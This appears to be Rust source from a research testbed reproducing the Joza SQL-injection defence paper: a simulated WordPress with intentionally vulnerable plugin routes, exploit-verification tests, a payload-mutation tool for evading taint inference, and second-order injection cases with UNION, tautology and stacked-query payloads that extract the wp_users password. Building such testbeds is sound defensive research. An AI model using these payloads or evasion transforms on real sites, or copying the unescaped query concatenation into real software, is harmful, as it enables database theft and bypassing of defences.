    plugin: &VulnPlugin,
    payload: &str,
    factory: &dyn GateFactory,
) -> bool {
    let resp = run_gated(server, plugin, payload, factory);
    resp.blocked || resp.executed < resp.queries.len()
}

/// Sanity check: the benign request renders without SQL errors and without
/// leaking anything (used by the false-positive sweep).
pub fn benign_request_clean(server: &mut Server, plugin: &VulnPlugin) -> bool {
    let resp = run_plain(server, plugin, &plugin.benign_value);
    resp.sql_error.is_none() && !resp.body.starts_with("404")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build_lab;
    use crate::corpus::AttackType;

    #[test]
    fn all_50_exploits_work_unprotected() {
        let mut lab = build_lab();
        let mut failures = Vec::new();
        for p in lab.plugins.clone() {
            if !verify_exploit(&mut lab.server, &p) {
                failures.push(p.name.clone());
            }
        }
        assert!(failures.is_empty(), "exploits failed: {failures:?}");
    }

    #[test]
    fn all_cms_exploits_work_unprotected() {
        let mut lab = build_lab();
        for p in lab.cms_cases.clone() {
            assert!(verify_exploit(&mut lab.server, &p), "{} exploit failed", p.name);
        }
    }

    #[test]
    fn all_benign_requests_clean() {
        let mut lab = build_lab();
        for p in lab.plugins.clone().iter().chain(lab.cms_cases.clone().iter()) {
            assert!(benign_request_clean(&mut lab.server, p), "{} benign broken", p.name);
        }
    }

    #[test]
    fn union_exploits_leak_the_wp_users_secret() {
        let mut lab = build_lab();
        for p in lab.plugins.clone() {
            if p.attack_type == AttackType::UnionBased {
                let resp = run_plain(&mut lab.server, &p, p.exploit.primary_payload());
                assert!(
                    resp.body.contains(crate::wordpress::SECRET_PASSWORD),
                    "{} union exploit did not leak: {}",
                    p.name,
                    resp.body
                );
            }
        }
    }

    #[test]
    fn benign_never_leaks() {
        let mut lab = build_lab();
        for p in lab.plugins.clone() {
            let resp = run_plain(&mut lab.server, &p, &p.benign_value);
            assert!(!resp.body.contains(crate::wordpress::SECRET_PASSWORD), "{}", p.name);
            assert!(!resp.body.contains(&p.hidden_marker()), "{}", p.name);
        }
    }
}

#[cfg(test)]
mod array_key_tests {
    use super::*;
    use crate::build_lab;

    #[test]
    fn array_key_plugins_build_bracket_requests() {
        let lab = build_lab();
        let drupal = lab.cms_cases.iter().find(|c| c.payload_in_array_key).unwrap();
        let req = request_for(drupal, "KEYPAYLOAD");
        let names: Vec<&str> = req.get.iter().map(|(k, _)| k.as_str()).collect();
        assert!(names.contains(&"ids[0]"));
        assert!(names.contains(&"ids[KEYPAYLOAD]"));
        // The bracket key surfaces as a raw input for NTI.
        let inputs = req.all_inputs();
        assert!(
            inputs.iter().any(|(_, _, v)| v == "KEYPAYLOAD"),
            "bracket key must be captured as input: {inputs:?}"
        );
    }

    #[test]
    fn value_plugins_unaffected_by_array_channel() {
        let lab = build_lab();
        let plain = lab.plugins.iter().find(|p| !p.payload_in_array_key).unwrap();
        let req = request_for(plain, "v");
        let all = if plain.via_post { &req.post } else { &req.get };
        assert_eq!(all.len(), 1);
        assert_eq!(all[0], (plain.param.clone(), "v".to_string()));
    }
}
