//! Taintless: the paper's automated PTI-evasion tool (§V-A).
//!
//! "Taintless replaces certain SQL tokens with their equivalents (e.g.,
//! UNION with UNION ALL, CHAR with string literals), matches the letter
//! case of attack tokens with those available in the application, removes
//! those tokens not found inside the application that can be safely
//! removed from the attack payload, and also matches the type and number
//! of whitespaces with those available in the application."
//!
//! The reproduction is generate-and-test, like the original: enumerate
//! bounded combinations of payload transformations, and accept a mutant
//! when (a) the attack effect is still observable against the unprotected
//! application and (b) every query the attack request issues passes PTI.

use crate::corpus::{Exploit, VulnPlugin};
use crate::verify::{exploit_effect_observed, request_for};
use joza_pti::PtiAnalyzer;
use joza_webapp::server::Server;

/// One payload transformation. Transformations compose left-to-right.
type Transform = fn(&str) -> String;

fn spaced_equals(s: &str) -> String {
    // `1=1` → `1 = 1` — match the whitespace shapes the application's own
    // fragments use.
    let mut out = String::with_capacity(s.len() + 8);
    let bytes = s.as_bytes();
    for (i, &b) in bytes.iter().enumerate() {
        if b == b'='
            && i > 0
            && !matches!(bytes[i - 1], b' ' | b'=' | b'>' | b'<' | b'!')
            && bytes.get(i + 1) != Some(&b'=')
        {
            out.push(' ');
            out.push('=');
            if bytes.get(i + 1) != Some(&b' ') {
                out.push(' ');
            }
        } else {
            out.push(b as char);
        }
    }
    out
}

fn spaced_comparisons(s: &str) -> String {
    let mut out = s.replace('>', " > ").replace('<', " < ");
    while out.contains("  ") {
        out = out.replace("  ", " ");
    }
    out
}

fn union_all(s: &str) -> String {
    s.replace("UNION SELECT", "UNION ALL SELECT")
}

fn select_distinct(s: &str) -> String {
    s.replace("UNION ALL SELECT ", "UNION ALL SELECT DISTINCT ")
}

fn lowercase(s: &str) -> String {
    s.to_lowercase()
}

fn strip_trailing_comment(s: &str) -> String {
    s.trim_end_matches("-- -").trim_end().to_string()
}

fn or_keyword_spacing(s: &str) -> String {
    // Collapse whitespace runs around OR / AND to single spaces so the
    // payload matches the application's ` OR ` / ` AND ` fragments
    // exactly ("matches the type and number of whitespaces with those
    // available in the application", §V-A).
    let mut out = s.to_string();
    for kw in ["OR", "AND"] {
        loop {
            let next = out
                .replace(&format!("  {kw} "), &format!(" {kw} "))
                .replace(&format!(" {kw}  "), &format!(" {kw} "))
                .replace(&format!("\t{kw} "), &format!(" {kw} "))
                .replace(&format!(" {kw}\t"), &format!(" {kw} "));
            if next == out {
                break;
            }
            out = next;
        }
    }
    out
}

fn hex_for_char(s: &str) -> String {
    // CHAR(58) → 0x3a-style replacement.
    s.replace("CHAR(58)", "0x3a")
}

static TRANSFORMS: &[Transform] = &[
    spaced_equals,
    spaced_comparisons,
    union_all,
    select_distinct,
    lowercase,
    strip_trailing_comment,
    or_keyword_spacing,
    hex_for_char,
];

/// The result of a successful evasion.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Evasion {
    /// The mutated exploit that bypasses PTI while still working.
    pub mutated: Exploit,
    /// Which transformations were applied (by name).
    pub transforms: Vec<&'static str>,
}

fn transform_names(mask: usize) -> Vec<&'static str> {
    const NAMES: &[&str] = &[
        "spaced-equals",
        "spaced-comparisons",
        "union-all",
        "select-distinct",
        "lowercase",
        "strip-trailing-comment",
        "or-keyword-spacing",
        "hex-for-char",
    ];
    (0..TRANSFORMS.len()).filter(|i| mask & (1 << i) != 0).map(|i| NAMES[i]).collect()
}

fn apply_mask(payload: &str, mask: usize) -> String {
    let mut p = payload.to_string();
    for (i, t) in TRANSFORMS.iter().enumerate() {
        if mask & (1 << i) != 0 {
            p = t(&p);
        }
    }
    p
}

fn mutate_exploit(exploit: &Exploit, mask: usize, b64: bool) -> Exploit {
    let enc = |s: &str| -> String {
        let m = apply_mask(s, mask);
        if b64 {
            joza_phpsim::builtins::base64_encode(m.as_bytes())
        } else {
            m
        }
    };
    match exploit {
        Exploit::Leak { payload, leak_marker } => {
            Exploit::Leak { payload: enc(payload), leak_marker: leak_marker.clone() }
        }
        Exploit::BooleanDiff { true_payload, false_payload } => Exploit::BooleanDiff {
            true_payload: enc(true_payload),
            false_payload: enc(false_payload),
        },
        Exploit::TimingDiff { slow_payload, fast_payload, min_delay_ms } => Exploit::TimingDiff {
            slow_payload: enc(slow_payload),
            fast_payload: enc(fast_payload),
            min_delay_ms: *min_delay_ms,
        },
    }
}

/// Whether every query issued by running `payload_value` against the
/// plugin passes PTI.
pub fn queries_pass_pti(
    server: &mut Server,
    plugin: &VulnPlugin,
    value: &str,
    pti: &PtiAnalyzer,
) -> bool {
    let resp = server.handle(&request_for(plugin, value));
    !resp.queries.is_empty() && resp.queries.iter().all(|q| !pti.analyze(q).is_attack())
}

/// Attempts to adapt the plugin's exploit to evade PTI.
///
/// Returns `Some(Evasion)` when a mutant both works (observable effect
/// against the unprotected app) and passes PTI on every issued query.
pub fn evade_pti(server: &mut Server, plugin: &VulnPlugin, pti: &PtiAnalyzer) -> Option<Evasion> {
    // Is this a base64-wrapped parameter? Mirror the plugin's decoding.
    let b64 = plugin.decodes_base64();
    for mask in 0..(1usize << TRANSFORMS.len()) {
        let mutated = mutate_exploit(&plugin.exploit, mask, b64);
        // (b) PTI must pass on every query of the attack request.
        let probe_value = mutated.primary_payload().to_string();
        if !queries_pass_pti(server, plugin, &probe_value, pti) {
            continue;
        }
        // For differential exploits the second payload must also pass.
        let second = match &mutated {
            Exploit::BooleanDiff { false_payload, .. } => Some(false_payload.clone()),
            Exploit::TimingDiff { fast_payload, .. } => Some(fast_payload.clone()),
            Exploit::Leak { .. } => None,
        };
        if let Some(second) = second {
            if !queries_pass_pti(server, plugin, &second, pti) {
                continue;
            }
        }
        // (a) the attack must still work.
        if !exploit_effect_observed(server, plugin, &mutated, None) {
            continue;
        }
        return Some(Evasion { mutated, transforms: transform_names(mask) });
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wordpress;
    use joza_phpsim::fragments::FragmentSet;
    use joza_pti::analyzer::PtiConfig;

    fn lab_pti() -> (crate::Lab, PtiAnalyzer) {
        let lab = crate::build_lab();
        let mut set = FragmentSet::new();
        for src in lab.server.app.all_sources() {
            set.add_source(src);
        }
        let pti = PtiAnalyzer::from_fragments(set.iter(), PtiConfig::default());
        (lab, pti)
    }

    #[test]
    fn spaced_equals_transform() {
        assert_eq!(spaced_equals("1=1"), "1 = 1");
        assert_eq!(spaced_equals("1 = 1"), "1 = 1");
        assert_eq!(spaced_equals("a>=b"), "a>=b"); // compound operators untouched
    }

    #[test]
    fn tautology_plugins_are_evadable() {
        // Fig. 6B: tautologies built from vocabulary fragments evade PTI.
        let (mut lab, pti) = lab_pti();
        let tautologies: Vec<_> = lab
            .plugins
            .clone()
            .into_iter()
            .filter(|p| p.attack_type == crate::corpus::AttackType::Tautology)
            .collect();
        let evaded =
            tautologies.iter().filter(|p| evade_pti(&mut lab.server, p, &pti).is_some()).count();
        assert!(evaded >= 3, "only {evaded}/{} tautologies evadable", tautologies.len());
    }

    #[test]
    fn union_plugins_resist_taintless() {
        // Long union payloads need too many uncovered tokens.
        let (mut lab, pti) = lab_pti();
        let unions: Vec<_> = lab
            .plugins
            .clone()
            .into_iter()
            .filter(|p| p.attack_type == crate::corpus::AttackType::UnionBased)
            .take(4)
            .collect();
        for p in unions {
            assert!(
                evade_pti(&mut lab.server, &p, &pti).is_none(),
                "{} unexpectedly evadable",
                p.name
            );
        }
    }

    #[test]
    fn original_exploits_all_detected_by_pti() {
        // Table II: PTI detects 50/50 originals.
        let (mut lab, pti) = lab_pti();
        for p in lab.plugins.clone() {
            let v = p.exploit.primary_payload().to_string();
            assert!(
                !queries_pass_pti(&mut lab.server, &p, &v, &pti),
                "{}: original exploit passed PTI",
                p.name
            );
        }
        let _ = wordpress::SECRET_PASSWORD;
    }
}
