#![warn(missing_docs)]
//! WP-SQLI-LAB: the Joza paper's security testbed, reproduced (§V).
//!
//! "To evaluate Joza's security, we created WP-SQLI-LAB, an open-source
//! security testbed consisting of a recent Wordpress version packaged with
//! 50 plugins publicly reported to be vulnerable to SQL injection
//! attacks."
//!
//! This crate assembles:
//!
//! * [`wordpress`] — a simulated WordPress: core PHP-subset sources (the
//!   fragment vocabulary of Table III), the standard `wp_*` schema with
//!   seed content, and the read/write/search routes used by the
//!   performance evaluation (§VI);
//! * [`corpus`] — the 50 vulnerable plugins of Table IV (names, versions,
//!   CVE/OSVDB ids, attack-type mix of Table I), each with working
//!   PHP-subset source, a working exploit, and a benign request;
//! * [`cms`] — the Joomla / Drupal / osCommerce case studies (§V-B);
//! * [`verify`] — exploit verification: runs a plugin unprotected and
//!   checks the *observable* attack effect (leaked marker, boolean
//!   differential, timing differential);
//! * [`sqlmap`] — a SQLMap-style payload-variant generator (Table II's
//!   160-exploit row);
//! * [`taintless`] — the paper's automated PTI-evasion tool (§V-A);
//! * [`nti_evasion`] — quote-stuffing / whitespace-padding NTI mutations
//!   (§V-A).
//!
//! # Examples
//!
//! ```
//! use joza_lab::{build_lab, verify::verify_exploit};
//!
//! let mut lab = build_lab();
//! let plugin = lab.plugins[0].clone();
//! // Every shipped exploit actually works against the unprotected app.
//! assert!(verify_exploit(&mut lab.server, &plugin));
//! ```

pub mod cms;
pub mod corpus;
pub mod harden;
pub mod nti_evasion;
pub mod second_order;
pub mod serve;
pub mod serve_live;
pub mod sqlmap;
pub mod taintless;
pub mod verify;
pub mod wordpress;

pub use corpus::{AttackType, Exploit, VulnPlugin};
pub use serve::{serve_parallel, ParallelRun};

use joza_webapp::server::Server;

/// The assembled testbed: a server (WordPress + all plugins + seeded
/// database) and the plugin corpus metadata.
pub struct Lab {
    /// Server over the full application.
    pub server: Server,
    /// The 50 vulnerable plugins.
    pub plugins: Vec<VulnPlugin>,
    /// The three CMS case studies (§V-B).
    pub cms_cases: Vec<VulnPlugin>,
}

impl std::fmt::Debug for Lab {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Lab").field("plugins", &self.plugins.len()).finish_non_exhaustive()
    }
}

impl Lab {
    /// Restores the database to its freshly-seeded state (schema + seed
    /// rows for WordPress and every plugin). Measurement passes call this
    /// so accumulated writes from earlier passes cannot skew later ones.
    pub fn reset_database(&mut self) {
        let mut db = wordpress::wordpress_database();
        for p in self.plugins.iter().chain(self.cms_cases.iter()) {
            p.setup_tables(&mut db);
        }
        self.server.db = db;
    }
}

/// The routable WordPress core pages, all free of SQL injection: `index`
/// takes no input, `single-post` casts its only input with `intval`, and
/// `post-comment` / `search` concatenate quoted string parameters that
/// the framework's magic-quotes pipeline escapes before plugin code runs.
pub const CLEAN_CORE_ROUTES: [&str; 4] = ["index", "single-post", "post-comment", "search"];

/// Ground-truth vulnerability labels for every routable endpoint of the
/// testbed, as `(route, vulnerable)` pairs sorted by route.
///
/// The 50 corpus plugins and the 3 CMS case studies each ship a working,
/// verified exploit — vulnerable by construction. The core routes are
/// clean ([`CLEAN_CORE_ROUTES`]): static reports are scored against these
/// labels (flagged+vulnerable = TP, flagged+clean = FP, unflagged+
/// vulnerable = FN).
pub fn ground_truth(lab: &Lab) -> Vec<(String, bool)> {
    let mut out: Vec<(String, bool)> =
        CLEAN_CORE_ROUTES.iter().map(|r| (r.to_string(), false)).collect();
    out.extend(lab.plugins.iter().chain(lab.cms_cases.iter()).map(|p| (p.slug.clone(), true)));
    out.sort();
    out
}

/// Routes whose statically inferred query models are expected to be
/// *incomplete*: `joza_sast::app_query_models` must leave at least one
/// sink unmodeled there, so the gate treats a non-matching query as
/// ordinary (model-unknown) rather than as a structural anomaly.
///
/// The only such route today is the Drupal case study: its `db_query`
/// call passes a placeholder-arguments array, and Drupal's
/// `expandArguments` splices array *keys* into the statement text
/// (CVE-2014-3704) — the rewritten text is not derivable from the call
/// site, so the model pass soundly tops out.
pub const MODEL_INCOMPLETE_ROUTES: [&str; 1] = ["drupal-core"];

/// Ground-truth query-model completeness labels for every routable
/// endpoint, as `(route, expected_complete)` pairs sorted by route.
///
/// Every endpoint in the testbed builds its queries from literals and
/// scalar request inputs through builtins the model pass understands
/// (`intval`, `trim`, `stripslashes`, `base64_decode`, fetch loops), so
/// all routes are expected complete except [`MODEL_INCOMPLETE_ROUTES`].
/// `joza_sast::app_query_models` is scored against these labels: an
/// expected-complete route that comes back incomplete forfeits the fast
/// path (a model-precision regression), while an expected-incomplete
/// route that comes back complete would raise false structural
/// anomalies (a soundness bug).
pub fn model_ground_truth(lab: &Lab) -> Vec<(String, bool)> {
    ground_truth(lab)
        .into_iter()
        .map(|(route, _)| {
            let complete = !MODEL_INCOMPLETE_ROUTES.contains(&route.as_str());
            (route, complete)
        })
        .collect()
}

/// Builds the full WP-SQLI-LAB testbed.
pub fn build_lab() -> Lab {
    let plugins = corpus::corpus();
    let cms_cases = cms::cms_cases();
    let mut app = wordpress::wordpress_app();
    for p in plugins.iter().chain(cms_cases.iter()) {
        app.add_plugin(joza_webapp::app::Plugin::new(&p.slug, &p.version, &p.source));
    }
    let mut db = wordpress::wordpress_database();
    for p in plugins.iter().chain(cms_cases.iter()) {
        p.setup_tables(&mut db);
    }
    Lab { server: Server::new(app, db), plugins, cms_cases }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lab_assembles() {
        let lab = build_lab();
        assert_eq!(lab.plugins.len(), 50);
        assert_eq!(lab.cms_cases.len(), 3);
        assert!(lab.server.app.plugin_count() >= 53);
    }

    #[test]
    fn ground_truth_covers_every_route_once() {
        let lab = build_lab();
        let gt = ground_truth(&lab);
        assert_eq!(gt.len(), 4 + 50 + 3);
        let mut routes: Vec<&str> = gt.iter().map(|(r, _)| r.as_str()).collect();
        routes.dedup();
        assert_eq!(routes.len(), gt.len(), "duplicate routes in ground truth");
        assert_eq!(gt.iter().filter(|(_, v)| !v).count(), 4);
        for (route, _) in &gt {
            assert!(lab.server.app.plugin(route).is_some(), "unroutable label {route}");
        }
    }

    #[test]
    fn model_ground_truth_covers_every_route() {
        let lab = build_lab();
        let mgt = model_ground_truth(&lab);
        assert_eq!(mgt.len(), 4 + 50 + 3);
        assert_eq!(mgt.iter().filter(|(_, c)| !c).count(), MODEL_INCOMPLETE_ROUTES.len());
        for incomplete in MODEL_INCOMPLETE_ROUTES {
            assert!(mgt.iter().any(|(r, c)| r == incomplete && !c));
        }
    }

    #[test]
    fn attack_type_distribution_matches_table1() {
        use corpus::AttackType::*;
        let lab = build_lab();
        let count =
            |t: corpus::AttackType| lab.plugins.iter().filter(|p| p.attack_type == t).count();
        assert_eq!(count(UnionBased), 15);
        assert_eq!(count(StandardBlind), 17);
        assert_eq!(count(DoubleBlind), 14);
        assert_eq!(count(Tautology), 4);
    }
}
