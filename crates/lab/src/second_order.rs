//! The second-order (stored) SQL-injection extension of WP-SQLI-LAB.
//!
//! A second-order exploit runs in two phases: a **plant** request stores
//! the payload through a write route where it sits inertly inside a SQL
//! string literal (magic quotes escape the request, SQL literal parsing
//! unescapes on store — the database holds the raw bytes), and a later
//! **trigger** request re-reads the stored value and interpolates it into
//! a new query without escaping, where it finally executes. First-order
//! inference treats each request independently and sees nothing wrong
//! with either one; only a gate that treats values fetched from
//! attacker-reachable cells as taint sources can catch the trigger.
//!
//! Four case classes, each a plant/trigger route pair with its own
//! tables, a working two-phase exploit and a benign round trip:
//!
//! * **stored-profile echo** — a saved profile field is re-quoted into a
//!   lookup on view (quoted-context union leak);
//! * **comment-reply** — a stored author name keys the reply query
//!   (quoted-context tautology leaking a hidden row);
//! * **audit-log replay** — a logged value is replayed into a numeric
//!   context (the payload never even needs a quote, so magic quotes are
//!   a no-op at plant time);
//! * **stacked-query** — a stored preference reaches a numeric context
//!   and smuggles a second statement through the `;` splitter.
//!
//! The base [`crate::build_lab`] corpus is untouched — counts stay
//! pinned; [`build_second_order_lab`] assembles the extended testbed.

use crate::Lab;
use joza_db::{Database, Value};
use joza_webapp::app::Plugin;
use joza_webapp::gate::GateFactory;
use joza_webapp::request::HttpRequest;
use joza_webapp::server::Server;

/// The four second-order case classes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SecondOrderClass {
    /// Stored profile field echoed into a quoted lookup.
    StoredProfileEcho,
    /// Stored comment author keyed into the reply query.
    CommentReply,
    /// Logged value replayed into a numeric context.
    AuditLogReplay,
    /// Stored preference reaching a numeric context with a stacked
    /// (`;`-separated) payload.
    StackedQuery,
}

impl std::fmt::Display for SecondOrderClass {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            SecondOrderClass::StoredProfileEcho => "stored-profile-echo",
            SecondOrderClass::CommentReply => "comment-reply",
            SecondOrderClass::AuditLogReplay => "audit-log-replay",
            SecondOrderClass::StackedQuery => "stacked-query",
        };
        f.write_str(s)
    }
}

/// One second-order case: a plant route, a trigger route, the two-phase
/// exploit, the benign round trip, and the ground-truth labels the
/// static pass is scored against.
#[derive(Debug, Clone)]
pub struct SecondOrderCase {
    /// Case class.
    pub class: SecondOrderClass,
    /// The write route the payload is planted through.
    pub plant_route: String,
    /// Parameters of the benign plant request.
    pub benign_plant: Vec<(String, String)>,
    /// Parameters of the exploit plant request (payload included).
    pub exploit_plant: Vec<(String, String)>,
    /// The read route that re-interpolates the stored value.
    pub trigger_route: String,
    /// Parameters of the trigger request (identical for benign and
    /// exploit runs — the attack travels through the database).
    pub trigger: Vec<(String, String)>,
    /// Text only a successful exploit can surface in the trigger
    /// response.
    pub leak_marker: String,
    /// Parameters of the PTI-evading plant variant: the payload is a
    /// tautology (or lowercase stacked select) assembled from vocabulary
    /// the application's own sources contain, so payload-oriented taint
    /// inference finds no foreign fragment in the trigger query. Found
    /// empirically — first-order Joza lets the trigger through — and
    /// frozen here; only DB-sourced input capture catches it.
    pub evasive_plant: Vec<(String, String)>,
    /// Text only the evasive variant can surface in the trigger
    /// response.
    pub evasive_marker: String,
    /// Text the benign round trip must echo back bit-identically.
    pub benign_echo: String,
    /// The ground-truth dirty cell the plant writes and the trigger
    /// reads.
    pub cell: (String, String),
}

impl SecondOrderCase {
    /// The plant request carrying `params`.
    fn request(route: &str, params: &[(String, String)], post: bool) -> HttpRequest {
        let mut req = if post { HttpRequest::post(route) } else { HttpRequest::get(route) };
        for (k, v) in params {
            req = req.param(k, v);
        }
        req
    }

    /// The benign plant request.
    pub fn benign_plant_request(&self) -> HttpRequest {
        Self::request(&self.plant_route, &self.benign_plant, true)
    }

    /// The exploit plant request.
    pub fn exploit_plant_request(&self) -> HttpRequest {
        Self::request(&self.plant_route, &self.exploit_plant, true)
    }

    /// The trigger request (same for benign and exploit runs).
    pub fn trigger_request(&self) -> HttpRequest {
        Self::request(&self.trigger_route, &self.trigger, false)
    }

    /// The case rewritten to its PTI-evading variant: the evasive plant
    /// becomes the exploit plant and the evasive marker becomes the leak
    /// marker, so [`verify_second_order_exploit`] and
    /// [`run_two_phase_gated`] exercise the evasive two-phase attack
    /// unchanged.
    pub fn evasive_variant(&self) -> SecondOrderCase {
        let mut c = self.clone();
        c.exploit_plant = self.evasive_plant.clone();
        c.leak_marker = self.evasive_marker.clone();
        c
    }
}

/// The extended testbed: the full base lab plus the second-order cases,
/// their routes and their tables.
pub struct SecondOrderLab {
    /// The lab with second-order plugins routed and tables seeded.
    pub lab: Lab,
    /// The second-order cases.
    pub cases: Vec<SecondOrderCase>,
}

impl SecondOrderLab {
    /// Restores the database to its freshly-seeded state, second-order
    /// tables included.
    pub fn reset_database(&mut self) {
        self.lab.reset_database();
        setup_tables(&mut self.lab.server.db);
    }
}

/// Builds the extended testbed: [`crate::build_lab`] plus the
/// second-order plant/trigger routes and their seeded tables.
pub fn build_second_order_lab() -> SecondOrderLab {
    let mut lab = crate::build_lab();
    for (slug, source) in route_sources() {
        lab.server.app.add_plugin(Plugin::new(slug, "1.0", source));
    }
    setup_tables(&mut lab.server.db);
    SecondOrderLab { lab, cases: second_order_cases() }
}

/// Creates and seeds the second-order tables.
pub fn setup_tables(db: &mut Database) {
    db.create_table("so_profiles", &["id", "bio"]);
    db.insert_row("so_profiles", vec![Value::Int(1), "hello".into()]);
    db.create_table("so_badges", &["id", "name", "bio_tag"]);
    db.insert_row("so_badges", vec![Value::Int(1), "badge-newbie".into(), "hello".into()]);
    db.insert_row("so_badges", vec![Value::Int(99), "HIDDEN-so-badge".into(), "zz-secret".into()]);

    db.create_table("so_comments", &["id", "author", "body"]);
    db.insert_row("so_comments", vec![Value::Int(1), "alice".into(), "first!".into()]);
    db.insert_row(
        "so_comments",
        vec![Value::Int(2), "moderator".into(), "HIDDEN-so-comment".into()],
    );

    db.create_table("so_audit", &["id", "detail"]);
    db.insert_row("so_audit", vec![Value::Int(1), "1".into()]);
    db.create_table("so_items", &["id", "name"]);
    db.insert_row("so_items", vec![Value::Int(1), "item-one".into()]);
    db.insert_row("so_items", vec![Value::Int(2), "item-two".into()]);
    db.insert_row("so_items", vec![Value::Int(99), "HIDDEN-so-item".into()]);

    db.create_table("so_prefs", &["id", "k", "val"]);
    db.insert_row("so_prefs", vec![Value::Int(1), "limit".into(), "1".into()]);
    db.create_table("so_stock", &["id", "name"]);
    db.insert_row("so_stock", vec![Value::Int(1), "stock-one".into()]);
    db.insert_row("so_stock", vec![Value::Int(99), "HIDDEN-so-stock".into()]);
}

/// The `(slug, source)` pairs of every second-order route, plants and
/// triggers, in a stable order.
pub fn route_sources() -> [(&'static str, &'static str); 8] {
    [
        (
            "so-profile-save",
            r#"
            $user = intval($_POST['user']);
            $bio = $_POST['bio'];
            $ok = mysql_query("UPDATE so_profiles SET bio='" . $bio . "' WHERE id=" . $user);
            if ($ok) { echo "profile saved"; } else { echo "save error: ", mysql_error(); }
            "#,
        ),
        (
            "so-profile-view",
            r#"
            $user = intval($_GET['user']);
            $r = mysql_query("SELECT bio FROM so_profiles WHERE id=" . $user);
            $row = mysql_fetch_row($r);
            $bio = $row[0];
            $b = mysql_query("SELECT name FROM so_badges WHERE bio_tag='" . $bio . "'");
            if ($b) {
                while ($badge = mysql_fetch_row($b)) { echo "<b>", $badge[0], "</b>"; }
            } else {
                echo "badge error: ", mysql_error();
            }
            "#,
        ),
        (
            "so-comment-post",
            r#"
            $cid = intval($_POST['cid']);
            $author = $_POST['author'];
            $reply = $_POST['reply'];
            $ok = mysql_query("INSERT INTO so_comments (id, author, body) VALUES (" . $cid . ", '" . $author . "', '" . $reply . "')");
            if ($ok) { echo "comment posted"; } else { echo "post error: ", mysql_error(); }
            "#,
        ),
        (
            "so-comment-thread",
            r#"
            $cid = intval($_GET['c']);
            $r = mysql_query("SELECT author FROM so_comments WHERE id=" . $cid);
            $row = mysql_fetch_row($r);
            $author = $row[0];
            $t = mysql_query("SELECT body FROM so_comments WHERE author='" . $author . "'");
            if ($t) {
                while ($c = mysql_fetch_row($t)) { echo "<li>", $c[0], "</li>"; }
            } else {
                echo "thread error: ", mysql_error();
            }
            "#,
        ),
        (
            "so-audit-log",
            r#"
            $target = $_POST['target'];
            $ok = mysql_query("INSERT INTO so_audit (id, detail) VALUES (99, '" . $target . "')");
            if ($ok) { echo "logged"; } else { echo "log error: ", mysql_error(); }
            "#,
        ),
        (
            "so-audit-replay",
            r#"
            $r = mysql_query("SELECT detail FROM so_audit ORDER BY id DESC LIMIT 1");
            $row = mysql_fetch_row($r);
            $detail = $row[0];
            $i = mysql_query("SELECT name FROM so_items WHERE id=" . $detail);
            if ($i) {
                while ($item = mysql_fetch_row($i)) { echo "<li>", $item[0], "</li>"; }
            } else {
                echo "replay error: ", mysql_error();
            }
            "#,
        ),
        (
            "so-pref-save",
            r#"
            $v = $_POST['value'];
            $ok = mysql_query("UPDATE so_prefs SET val='" . $v . "' WHERE k='limit'");
            if ($ok) { echo "preference saved"; } else { echo "pref error: ", mysql_error(); }
            "#,
        ),
        (
            "so-pref-apply",
            r#"
            $r = mysql_query("SELECT val FROM so_prefs WHERE k='limit'");
            $row = mysql_fetch_row($r);
            $n = $row[0];
            $s = mysql_query("SELECT name FROM so_stock WHERE id=" . $n);
            if ($s) {
                while ($item = mysql_fetch_row($s)) { echo "<li>", $item[0], "</li>"; }
            } else {
                echo "apply error: ", mysql_error();
            }
            "#,
        ),
    ]
}

/// The four labeled second-order cases with their two-phase exploits.
pub fn second_order_cases() -> Vec<SecondOrderCase> {
    let secret = crate::wordpress::SECRET_PASSWORD.to_string();
    let p = |k: &str, v: &str| (k.to_string(), v.to_string());
    vec![
        SecondOrderCase {
            class: SecondOrderClass::StoredProfileEcho,
            plant_route: "so-profile-save".into(),
            benign_plant: vec![p("user", "1"), p("bio", "hello")],
            exploit_plant: vec![
                p("user", "1"),
                p("bio", "x' UNION SELECT user_pass FROM wp_users-- -"),
            ],
            trigger_route: "so-profile-view".into(),
            trigger: vec![p("user", "1")],
            leak_marker: secret.clone(),
            evasive_plant: vec![p("user", "1"), p("bio", "x' OR 'a' = 'a")],
            evasive_marker: "HIDDEN-so-badge".into(),
            benign_echo: "badge-newbie".into(),
            cell: ("so_profiles".into(), "bio".into()),
        },
        SecondOrderCase {
            class: SecondOrderClass::CommentReply,
            plant_route: "so-comment-post".into(),
            benign_plant: vec![p("cid", "7"), p("author", "alice"), p("reply", "nice post")],
            exploit_plant: vec![
                p("cid", "7"),
                p("author", "x' OR 1=1-- -"),
                p("reply", "innocuous"),
            ],
            trigger_route: "so-comment-thread".into(),
            trigger: vec![p("c", "7")],
            leak_marker: "HIDDEN-so-comment".into(),
            evasive_plant: vec![
                p("cid", "7"),
                p("author", "x' OR 'a' = 'a"),
                p("reply", "innocuous"),
            ],
            evasive_marker: "HIDDEN-so-comment".into(),
            benign_echo: "first!".into(),
            cell: ("so_comments".into(), "author".into()),
        },
        SecondOrderCase {
            class: SecondOrderClass::AuditLogReplay,
            plant_route: "so-audit-log".into(),
            benign_plant: vec![p("target", "2")],
            exploit_plant: vec![p("target", "0 UNION SELECT user_pass FROM wp_users-- -")],
            trigger_route: "so-audit-replay".into(),
            trigger: vec![],
            leak_marker: secret.clone(),
            evasive_plant: vec![p("target", "0 OR 1 = 1")],
            evasive_marker: "HIDDEN-so-item".into(),
            benign_echo: "item-two".into(),
            cell: ("so_audit".into(), "detail".into()),
        },
        SecondOrderCase {
            class: SecondOrderClass::StackedQuery,
            plant_route: "so-pref-save".into(),
            benign_plant: vec![p("value", "1")],
            exploit_plant: vec![p("value", "0; SELECT user_pass FROM wp_users WHERE ID=1")],
            trigger_route: "so-pref-apply".into(),
            trigger: vec![],
            leak_marker: secret,
            evasive_plant: vec![p("value", "0; SELECT name FROM so_stock WHERE id=99")],
            evasive_marker: "HIDDEN-so-stock".into(),
            benign_echo: "stock-one".into(),
            cell: ("so_prefs".into(), "val".into()),
        },
    ]
}

/// Runs the two-phase exploit unprotected and reports whether the
/// trigger response leaks the case's marker — the second-order analogue
/// of [`crate::verify::verify_exploit`].
